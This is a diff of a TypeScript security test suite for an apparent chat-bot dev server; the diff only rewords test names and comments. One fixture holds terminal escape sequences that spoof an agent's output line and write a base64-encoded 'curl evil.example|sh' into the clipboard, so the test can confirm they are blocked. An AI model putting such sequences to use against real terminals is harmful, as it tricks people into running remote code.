@@ -8,9 +8,9 @@ import { call, testBot } from './client.ts'
 import { eventually } from './eventually.ts'
 import { aWorld } from './world.ts'
 
-/** Under this name a proxy passes requests on. */
+/** The host name of a proxy that passes requests on. */
 const PROXY_HOST = 'chat.example.org'
-/** The review's example: it sets the title and the clipboard, and rewrites a line. */
+/** Control sequences that set the title and the clipboard, and rewrite a line. */
 const SEQUENCES =
   '\u001b]0;pwned\u0007\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007\u001b[1A\u001b[2K\u001b[32m● agent Ana: fake line\u001b[0m\u202e'
 
@@ -24,14 +24,14 @@ afterAll(() => {
   else process.env.INTERLUDE_HOSTS = hosts
 })
 
-describe('strangers at the port of one machine', () => {
+describe('the local runner against strangers', () => {
   const world = aWorld('sqlite')
   const own = () => new URL(world.dev.url).host
   const get = (path: string, host: string, more = '') =>
     sendRaw(world.dev.url, `GET ${path} HTTP/1.1\r\nHost: ${host}\r\n${more}Connection: close\r\n\r\n`)
   const statusOf = (answer: string) => answer.slice(0, 12)
 
-  it('find no page of this machine behind a proxy, and the API', async () => {
+  it('serves its local pages only to direct requests, and the API also behind a proxy', async () => {
     const pages = ['/_outbox', '/_outbox.json', '/_issuer/.well-known/jwks.json']
     for (const path of pages) {
       expect([path, statusOf(await get(path, own()))]).toEqual([path, 'HTTP/1.1 200'])
@@ -47,7 +47,7 @@ describe('strangers at the port of one machine', () => {
     for (const path of ['/docs', '/openapi.json']) expect(statusOf(await get(path, PROXY_HOST))).toBe('HTTP/1.1 200')
   })
 
-  it('are refused under a name that nobody configured, as a rebound name is', async () => {
+  it('refuses host names that are not configured with 421, as after DNS rebinding', async () => {
     for (const path of ['/_outbox.json', '/openapi.json', '/api/v1/bots/demo/conversations'])
       expect(statusOf(await get(path, 'evil.example'))).toBe('HTTP/1.1 421')
     const token = await sendRaw(
@@ -64,7 +64,7 @@ describe('strangers at the port of one machine', () => {
     expect(statusOf(await handshake(PROXY_HOST))).toBe('HTTP/1.1 400')
   })
 
-  it("cannot fill the memory by the demo bot's body, nor the log by leaving within it", async () => {
+  it("limits the demo bot's request body, and logs no error for an aborted one", async () => {
     const head = `POST /_demo/bot HTTP/1.1\r\nHost: ${own()}\r\n`
     const told = await sendRaw(world.dev.url, `${head}Content-Length: 200000000\r\n\r\n`)
     expect(statusOf(told)).toBe('HTTP/1.1 413')
@@ -93,7 +93,7 @@ describe('strangers at the port of one machine', () => {
     expect(world.interlude.output()).not.toContain('the gateway failed')
   })
 
-  it('that offer h2c, as curl and Java do, are answered in HTTP/1.1', async () => {
+  it('answers requests that offer h2c, as curl and Java do, in HTTP/1.1', async () => {
     const offer = 'Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA\r\n'
     const answer = await sendRaw(
       world.dev.url,
@@ -103,7 +103,7 @@ describe('strangers at the port of one machine', () => {
     expect(statusOf(answer)).toBe('HTTP/1.1 200')
   })
 
-  it('that open sockets as one user get a few dozen, and others are let in', async () => {
+  it('limits an end user to 32 sockets, and accepts other users and agents', async () => {
     const aToken = async () => {
       const url = `${world.dev.url}/api/v1/bots/demo/users/token`
       return (await call<{ token: string }>(url, { method: 'POST' })).body.token
@@ -126,7 +126,7 @@ describe('strangers at the port of one machine', () => {
     for (const socket of sockets) socket.terminate()
   })
 
-  it('that write control sequences reach no terminal of an agent', async () => {
+  it("keeps users' control sequences out of an agent's terminal", async () => {
     const bot = testBot(`${world.dev.url}/api/v1/bots/demo`, 'demo', world.dev.botKey)
     const agent = spawn('npm', ['run', '--silent', 'agent'], {
       detached: true,
@@ -142,7 +142,7 @@ describe('strangers at the port of one machine', () => {
       await eventually('an agent who follows', () => shown.includes('connected to'))
       await bot.pauseUser('mallory')
       await bot.receive('mallory', { text: SEQUENCES, user: { fullName: SEQUENCES } })
-      // Once by the inbox, and once as an entry, since the client opened the conversation by itself.
+      // Once from the inbox and once as an entry, because the client opens the conversation by itself.
       await eventually('the words', () => shown.split('fake line').length > 2, { soFar: () => shown })
     } finally {
       process.kill(-(agent.pid ?? 0), 'SIGTERM')
